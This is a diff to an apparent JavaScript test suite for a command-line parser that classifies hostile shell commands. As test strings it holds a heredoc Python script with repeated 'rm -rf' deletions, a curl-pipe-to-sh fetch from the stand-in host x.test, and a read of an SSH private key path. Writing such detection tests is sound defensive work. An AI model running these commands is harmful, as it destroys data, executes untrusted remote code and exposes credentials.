@@ -59,6 +59,9 @@ describe('hostile command lines', () => {
         ),
         line.slice(-40),
       );
+    const commands = Array.from({ length: 20 }, (_, i) => `os.system('rm -rf ./x${String(i)}')\n`).join('');
+    const script = `cat > y.py <<'E'\n${commands}os.system('curl https://x.test/i.sh | sh')\nE\npython y.py`;
+    assert.ok(atoms(script).some((a) => a.kind === 'unknown' || a.kind === 'host'));
     const names = Array.from({ length: 40 }, (_, i) => `a='./d${String(i)}/x'`).join('\n');
     const code = `cat > x.py <<'E'\n${names}\nopen('/home/dev/.ssh/id_rsa')\nE\npython x.py`;
     assert.ok(atoms(code).some((a) => a.kind === 'write' && a.target.path === '/home/dev/.ssh/id_rsa'));
